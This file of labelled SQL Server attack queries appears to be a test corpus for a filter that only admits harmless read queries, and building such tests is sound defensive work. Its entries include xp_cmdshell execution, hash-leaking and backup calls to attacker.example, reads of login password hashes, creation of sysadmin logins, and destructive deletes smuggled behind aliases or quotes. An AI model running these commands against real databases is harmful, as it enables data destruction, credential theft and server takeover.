-- Attacks on SQL Server. See attacks-shared.sql for the form of an entry.

--- xp_cmdshell: runs a program
EXEC xp_cmdshell 'whoami'

--- xp_cmdshell qualified: runs a program
EXEC master.dbo.xp_cmdshell 'whoami'

--- xp_cmdshell in master by two dots: runs a program
EXEC master..xp_cmdshell 'whoami'

--- xp_cmdshell after a select, without a semicolon: T-SQL needs none between statements
SELECT 1 EXEC xp_cmdshell 'whoami'

--- drop after a select, without a semicolon: T-SQL needs none between statements
SELECT 1 DROP TABLE order_items

--- delete after a select, without a semicolon: T-SQL needs none between statements
SELECT name FROM customers DELETE FROM order_items

--- update after a where, without a semicolon: T-SQL needs none between statements
SELECT name FROM customers WHERE id = 1 UPDATE products SET price = 0

--- insert after an order by, without a semicolon: T-SQL needs none between statements
SELECT name FROM customers ORDER BY name INSERT INTO orders SELECT * FROM orders

--- shutdown as an alias: looks like a table's alias and is a statement
SELECT name FROM customers SHUTDOWN

--- shutdown as a column's alias: looks like a column's alias and is a statement
SELECT 1 SHUTDOWN

--- commit as an alias: looks like an alias and is a statement
SELECT name FROM customers COMMIT

--- rollback as an alias: looks like an alias and is a statement
SELECT name FROM customers ROLLBACK

--- reconfigure as an alias: looks like an alias and is a statement
SELECT name FROM customers RECONFIGURE

--- checkpoint as an alias: looks like an alias and is a statement
SELECT name FROM customers CHECKPOINT

--- revert as an alias: looks like an alias and is a statement
SELECT name FROM customers REVERT

--- return as an alias: looks like an alias and is a statement
SELECT name FROM customers RETURN

--- begin tran as an alias: looks like an alias and is a statement
SELECT name FROM customers BEGIN TRAN

--- commit tran as two aliases: looks like an alias and is a statement
SELECT 1 COMMIT TRAN

--- kill: ends other sessions
SELECT 1 KILL 53

--- use as an alias: changes the database
SELECT name FROM customers USE master

--- go: ends the batch for the client
SELECT 1
GO
DELETE FROM order_items
GO

--- tablockx as a column list: looks like columns of an alias and is a lock
SELECT o.id FROM orders o (TABLOCKX)

--- tablockx after as: looks like columns of an alias and is a lock
SELECT o.id FROM orders AS o (TABLOCKX, HOLDLOCK)

--- tablockx without an alias: looks like a function and is a lock
SELECT id FROM orders (TABLOCKX)

--- with tablockx: locks the table
SELECT * FROM orders WITH (TABLOCKX)

--- with tablockx and holdlock: locks the table until the transaction ends
SELECT * FROM orders WITH (TABLOCKX, HOLDLOCK)

--- with updlock: locks rows
SELECT * FROM orders WITH (UPDLOCK, ROWLOCK)

--- with xlock: locks rows
SELECT * FROM orders o WITH (XLOCK)

--- with serializable: locks ranges
SELECT * FROM orders WITH (SERIALIZABLE)

--- with nolock and tablockx: one harmless hint and one other
SELECT * FROM orders WITH (NOLOCK, TABLOCKX)

--- with index: another plan
SELECT * FROM orders WITH (INDEX(0))

--- openquery: runs code on another server
SELECT * FROM OPENQUERY(srv, 'DELETE FROM t')

--- openquery in a join: runs code on another server
SELECT * FROM customers c JOIN OPENQUERY(srv, 'SELECT 1 AS id') q ON q.id = c.id

--- openquery in a subquery: runs code on another server
SELECT * FROM customers WHERE id IN (SELECT id FROM OPENQUERY(srv, 'EXEC evil'))

--- openrowset: calls another server
SELECT * FROM OPENROWSET('SQLNCLI', 'Server=attacker.example;Trusted_Connection=yes;', 'SELECT 1')

--- openrowset bulk: reads a file
SELECT * FROM OPENROWSET(BULK 'C:\Windows\win.ini', SINGLE_CLOB) AS x

--- openrowset bulk on a share: gives the login's hash to another machine
SELECT * FROM OPENROWSET(BULK '\\attacker.example\share\x', SINGLE_BLOB) AS x

--- opendatasource: calls another server
SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=attacker.example').master.dbo.t

--- openxml: reads a document handle
SELECT * FROM OPENXML(1, '/a')

--- linked server: four parts
SELECT * FROM srv.master.dbo.sysdatabases

--- other database: three parts
SELECT * FROM master.dbo.sysdatabases

--- other database by two dots: three parts, one left out
SELECT * FROM master..sysprocesses

--- other database in brackets: three parts
SELECT * FROM [master].[sys].[databases]

--- sys.tables: tells the tables
SELECT * FROM sys.tables

--- sys.objects: tells the objects
SELECT name FROM sys.objects

--- sys.sql_logins: tells passwords
SELECT name, password_hash FROM sys.sql_logins

--- sys.syslogins: tells logins
SELECT * FROM sys.syslogins

--- sys.server_principals: tells logins
SELECT * FROM sys.server_principals

--- sys.configurations: tells the settings
SELECT * FROM sys.configurations

--- sys.dm_exec_sessions: tells sessions
SELECT * FROM sys.dm_exec_sessions

--- sys.dm_exec_sql_text: tells what others ask
SELECT t.text FROM sys.dm_exec_requests r CROSS APPLY sys.dm_exec_sql_text(r.sql_handle) t

--- sys.dm_os_file_exists: tells whether a file is there
SELECT * FROM sys.dm_os_file_exists('C:\x')

--- sys.dm_os_enumerate_filesystem: lists files
SELECT * FROM sys.dm_os_enumerate_filesystem('C:\', '*')

--- sys.fn_xe_file_target_read_file: reads a file, also on a share
SELECT * FROM sys.fn_xe_file_target_read_file('\\attacker.example\x.xel', NULL, NULL, NULL)

--- sys.fn_get_audit_file: reads a file, also on a share
SELECT * FROM sys.fn_get_audit_file('\\attacker.example\x', DEFAULT, DEFAULT)

--- fn_trace_gettable: reads a file, also on a share
SELECT * FROM fn_trace_gettable('\\attacker.example\x.trc', DEFAULT)

--- fn_dblog: reads the log
SELECT * FROM fn_dblog(NULL, NULL)

--- fn_virtualfilestats: tells about files
SELECT * FROM fn_virtualfilestats(NULL, NULL)

--- old system table: tells the objects
SELECT * FROM sysobjects

--- old system table of logins: tells logins
SELECT * FROM syslogins

--- temp table: not in the catalogue
SELECT * FROM #loot

--- global temp table: not in the catalogue
SELECT * FROM ##loot

--- table variable: not in the catalogue
SELECT * FROM @loot

--- select into temp table: makes a table
SELECT * INTO #loot FROM customers

--- select into global temp table: makes a table others see
SELECT * INTO ##loot FROM customers

--- select into another database: makes a table
SELECT * INTO tempdb..loot FROM customers

--- select into with a top: makes a table
SELECT TOP 1 * INTO loot FROM customers

--- select into from a derived table: makes a table
SELECT x.* INTO loot FROM (SELECT * FROM customers) x

--- assignment: state of the batch
DECLARE @x INT; SELECT @x = 1

--- assignment from a table: state of the batch
SELECT @x = max(id) FROM customers

--- compound assignment: state of the batch
SELECT @x += 1

--- global variable: tells about the server
SELECT @@SERVERNAME

--- suser_name: tells the login
SELECT SUSER_NAME()

--- suser_sname: tells the login
SELECT SUSER_SNAME()

--- system_user: tells the login
SELECT SYSTEM_USER

--- current_user: tells the login
SELECT CURRENT_USER

--- session_user: tells the login
SELECT SESSION_USER

--- user_name: tells the login
SELECT USER_NAME()

--- user: tells the login
SELECT USER

--- is_srvrolemember: tells rights
SELECT IS_SRVROLEMEMBER('sysadmin')

--- has_perms_by_name: tells rights
SELECT HAS_PERMS_BY_NAME(NULL, NULL, 'CONTROL SERVER')

--- db_name: tells the database
SELECT DB_NAME()

--- host_name: tells the machine
SELECT HOST_NAME()

--- app_name: tells the program
SELECT APP_NAME()

--- serverproperty: tells about the server
SELECT SERVERPROPERTY('MachineName')

--- connectionproperty: tells about the connection
SELECT CONNECTIONPROPERTY('client_net_address')

--- object_id: tells of a table
SELECT OBJECT_ID('sys.sql_logins')

--- object_definition: tells code
SELECT OBJECT_DEFINITION(OBJECT_ID('dbo.v'))

--- col_name: tells of a column
SELECT COL_NAME(1, 1)

--- session_context: state of the session
SELECT SESSION_CONTEXT(N'x')

--- context_info: state of the session
SELECT CONTEXT_INFO()

--- scope_identity: state of the session
SELECT SCOPE_IDENTITY()

--- ident_current: state of a table
SELECT IDENT_CURRENT('customers')

--- next value for: a write
SELECT NEXT VALUE FOR dbo.seq

--- next value for over: a write
SELECT NEXT VALUE FOR dbo.seq OVER (ORDER BY id) FROM customers

--- pwdcompare: tries passwords
SELECT PWDCOMPARE('x', 0x0100)

--- pwdencrypt: makes a password
SELECT PWDENCRYPT('x')

--- decryptbykey: reads what is encrypted
SELECT DECRYPTBYKEY(0x00)

--- hashbytes of a login: nobody asked for it
SELECT LOGINPROPERTY('sa', 'PasswordHash')

--- newid of crypt: takes randomness
SELECT CRYPT_GEN_RANDOM(1000)

--- waitfor: waits
WAITFOR DELAY '01:00:00'

--- waitfor after a select: waits
SELECT 1 WAITFOR DELAY '01:00:00'

--- waitfor in an if: waits when the guess is right
IF (SELECT count(*) FROM customers) > 3 WAITFOR DELAY '00:00:10'

--- exec of a string: code out of a string
EXEC ('DELETE FROM order_items')

--- exec of a built string: code out of a string
EXEC ('DEL' + 'ETE FROM order_items')

--- sp_executesql: code out of a string
EXEC sp_executesql N'DELETE FROM order_items'

--- procedure without exec: the first statement of a batch needs no EXEC
sp_configure 'show advanced options', 1

--- sp_configure: changes the server
EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE

--- sp_oacreate: runs native code
EXEC sp_OACreate 'WScript.Shell', 1

--- sp_addlogin: makes a login
EXEC sp_addlogin 'loot', 'x'

--- sp_addlinkedserver: calls another server
EXEC sp_addlinkedserver 'attacker.example'

--- sp_start_job: runs a program
EXEC msdb.dbo.sp_start_job 'x'

--- xp_dirtree: gives the login's hash to another machine
EXEC master.dbo.xp_dirtree '\\attacker.example\x'

--- xp_fileexist: tells whether a file is there
EXEC master.dbo.xp_fileexist 'C:\x'

--- xp_regread: reads the registry
EXEC master.dbo.xp_regread 'HKEY_LOCAL_MACHINE', 'x', 'y'

--- execute as: becomes somebody else
EXECUTE AS LOGIN = 'sa'

--- execute at: runs code on another server
EXEC ('DELETE FROM t') AT srv

--- insert exec: writes what a procedure gives
INSERT INTO customers EXEC sp_who

--- bulk insert: reads a file
BULK INSERT customers FROM 'C:\x.csv'

--- backup: writes a file, also on a share
BACKUP DATABASE master TO DISK = '\\attacker.example\x.bak'

--- restore: replaces a database
RESTORE DATABASE shop FROM DISK = 'C:\x.bak'

--- dbcc: internal
DBCC CHECKDB

--- dbcc after a select: internal
SELECT 1 DBCC FREEPROCCACHE

--- create login: makes a login
CREATE LOGIN loot WITH PASSWORD = 'x'

--- alter server role: gives rights
ALTER SERVER ROLE sysadmin ADD MEMBER loot

--- alter login: changes a login
ALTER LOGIN sa ENABLE

--- create procedure: code that stays
CREATE PROCEDURE loot AS DELETE FROM order_items

--- create trigger: code that stays
CREATE TRIGGER loot ON orders AFTER INSERT AS DELETE FROM order_items

--- create assembly: runs native code
CREATE ASSEMBLY evil FROM '\\attacker.example\evil.dll' WITH PERMISSION_SET = UNSAFE

--- create external table: reads a file
CREATE EXTERNAL DATA SOURCE x WITH (LOCATION = 'https://attacker.example')

--- delete with output: removes rows and looks like a query
DELETE FROM order_items OUTPUT deleted.*

--- delete top: removes rows
DELETE TOP (1) FROM order_items

--- update with output: changes rows and looks like a query
UPDATE orders SET status = 'x' OUTPUT inserted.id

--- update from: changes rows
UPDATE o SET status = 'x' FROM orders o JOIN customers c ON c.id = o.customer_id

--- insert with output: adds rows and looks like a query
INSERT INTO customers OUTPUT inserted.id SELECT * FROM customers

--- nested dml: writes inside a derived table
SELECT * FROM (DELETE FROM order_items OUTPUT deleted.order_id) AS d

--- merge with output: writes and looks like a query
MERGE orders AS t USING customers AS s ON t.customer_id = s.id WHEN MATCHED THEN DELETE OUTPUT deleted.id;

--- cte before a delete: removes rows
WITH x AS (SELECT TOP 1 * FROM order_items) DELETE FROM x

--- cte before an update: changes rows
WITH x AS (SELECT * FROM products) UPDATE x SET price = 0

--- semicolon before with: an empty statement first
;WITH x AS (SELECT TOP 1 * FROM order_items) DELETE FROM x

--- SQL Server truncate: empties a table
TRUNCATE TABLE dbo.order_items

--- set: changes the session
SET ROWCOUNT 0 DELETE FROM order_items

--- set transaction isolation level: changes the session
SET TRANSACTION ISOLATION LEVEL SERIALIZABLE

--- set implicit_transactions: changes the session
SET IMPLICIT_TRANSACTIONS ON

--- declare and execute: code out of a string
DECLARE @q NVARCHAR(100) = N'DELETE FROM order_items' EXEC(@q)

--- declare cursor: state of the session
DECLARE c CURSOR FOR SELECT * FROM customers

--- while: a program
WHILE 1 = 1 PRINT 'x'

--- print: not a query
PRINT 'x'

--- raiserror: writes the log
RAISERROR('x', 20, 1) WITH LOG

--- throw: data in an error message
THROW 50000, 'x', 1

--- goto: a program
x: GOTO x

--- try: a program
BEGIN TRY DELETE FROM order_items END TRY BEGIN CATCH END CATCH

--- begin tran: opens a transaction
BEGIN TRAN; DELETE FROM order_items; COMMIT

--- rollback, delete: leaves the transaction that is always rolled back
ROLLBACK TRAN DELETE FROM order_items

--- commit, delete: leaves the transaction that is always rolled back
COMMIT TRAN DELETE FROM order_items

--- enable trigger: changes a table
ENABLE TRIGGER ALL ON orders

--- disable trigger: changes a table
DISABLE TRIGGER ALL ON orders

--- readtext: reads a text by address
READTEXT customers.note 0x00 0 10

--- for xml: rows as a document
SELECT name FROM customers FOR XML AUTO

--- for xml path in a subquery: rows as a document
SELECT (SELECT name FROM customers FOR XML PATH('')) AS x

--- for json: rows as a document
SELECT name FROM customers FOR JSON AUTO

--- for browse: locks
SELECT name FROM customers FOR BROWSE

--- option with a hint: another plan
SELECT name FROM customers OPTION (QUERYTRACEON 8649)

--- option use plan: another plan
SELECT name FROM customers OPTION (USE PLAN N'<x/>')

--- option max memory: takes all memory
SELECT name FROM customers OPTION (MIN_GRANT_PERCENT = 100)

--- compute: another result
SELECT name FROM customers COMPUTE COUNT(name)

--- for system_time: former rows
SELECT * FROM customers FOR SYSTEM_TIME ALL

--- bracket with a bracket inside: another name than it looks
SELECT * FROM [customers]]; DELETE FROM order_items; --]

--- bracket with a quote inside: a name here, the start of a string there
SELECT [a'b] FROM customers; DELETE FROM order_items; -- '

--- double quotes with QUOTED_IDENTIFIER off: a string to some
SELECT * FROM customers WHERE name = "x'; DELETE FROM order_items; --"

--- unicode apostrophe: becomes a quote when the text is converted
SELECT 'x{{U+02BC}}; DELETE FROM order_items; --'; DELETE FROM order_items

--- hex string executed: code out of a number
DECLARE @s VARCHAR(99) SET @s = CAST(0x44454C455445 AS VARCHAR(99)) EXEC(@s)

--- own function: nobody knows what it does
SELECT dbo.delete_all()

--- own table function: nobody knows what it does
SELECT * FROM dbo.delete_all()

--- method of a type: nobody knows what it does
SELECT geography::Parse('POINT(0 0)')

--- method of a column: nobody knows what it does
SELECT note.value('(/a)[1]', 'int') FROM orders

--- method of a column in cross apply: nobody knows what it does
SELECT * FROM orders CROSS APPLY note.nodes('/a') AS t(x)

--- cross apply of a table function: nobody knows what it does
SELECT * FROM customers c CROSS APPLY dbo.evil(c.id) e

--- outer apply of openquery: runs code on another server
SELECT * FROM customers c OUTER APPLY OPENQUERY(srv, 'SELECT 1') q

--- function in top: another place to call
SELECT TOP (dbo.evil()) name FROM customers

--- function in offset: another place to call
SELECT name FROM customers ORDER BY id OFFSET dbo.evil() ROWS

--- function in within group: another place to call
SELECT STRING_AGG(name, ',') WITHIN GROUP (ORDER BY dbo.evil(id)) FROM customers

--- function in convert: another place to call
SELECT CONVERT(NVARCHAR(99), dbo.evil(id)) FROM customers

--- function in iif: another place to call
SELECT IIF(dbo.evil(id) = 1, 1, 0) FROM customers

--- function in at time zone: another place to call
SELECT ordered_at AT TIME ZONE dbo.evil() FROM orders

--- function in pivot: another place to call
SELECT * FROM orders PIVOT (dbo.evil(id) FOR status IN ([open], [shipped])) AS p

--- replicate: takes all memory
SELECT REPLICATE(CAST('x' AS VARCHAR(MAX)), 2000000000)

--- space: takes memory
SELECT SPACE(2000000000)

--- contains: the full-text service
SELECT * FROM CONTAINSTABLE(customers, name, 'x')

--- predict: runs a model
SELECT * FROM PREDICT(MODEL = @m, DATA = customers)

--- string_split of a secret: not in the catalogue
SELECT value FROM STRING_SPLIT((SELECT max(password_hash) FROM sys.sql_logins), ',')

--- odbc call escape: the driver turns it into a procedure call
{call sp_who}

--- odbc function escape: the driver rewrites it
SELECT {fn DATABASE()}

--- cte in another case: where the collation tells cases apart, the name means a table
WITH Payroll AS (SELECT 1 AS a) SELECT * FROM payroll

--- two slashes: a comment to the parser only
SELECT 1 // dbo.evil()

--- hint behind a common table expression: looks like columns of an alias and is a lock
WITH x AS (SELECT * FROM orders) SELECT c.id FROM x AS c (TABLOCKX)

--- convert with a call in the place of the type: the parser reads it as a type
SELECT CONVERT(evil(10), 'x')

--- save as an alias: looks like an alias and is a statement
SELECT name FROM customers SAVE

--- deny as an alias: looks like an alias and is a statement
SELECT name FROM customers AS o, orders DENY

--- break as an alias of a derived table: looks like an alias and is a statement
SELECT * FROM (SELECT 1 AS a) BREAK

--- dot inside a bracketed name: one name here, schema and table to the parser
SELECT * FROM [dbo.orders]
